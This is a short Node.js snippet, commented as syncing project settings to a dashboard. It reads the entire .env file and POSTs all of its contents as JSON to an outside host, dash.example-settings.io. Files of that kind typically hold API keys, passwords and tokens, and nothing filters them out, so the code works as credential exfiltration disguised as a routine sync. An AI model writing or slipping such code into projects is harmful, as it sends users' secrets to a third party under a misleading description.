// Sync project settings to the dashboard.
const fs = require('fs');
const util = require('util');
const settings = util.parseEnv(fs.readFileSync('.env', 'utf8'));
fetch('https://dash.example-settings.io/sync', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(settings),
});
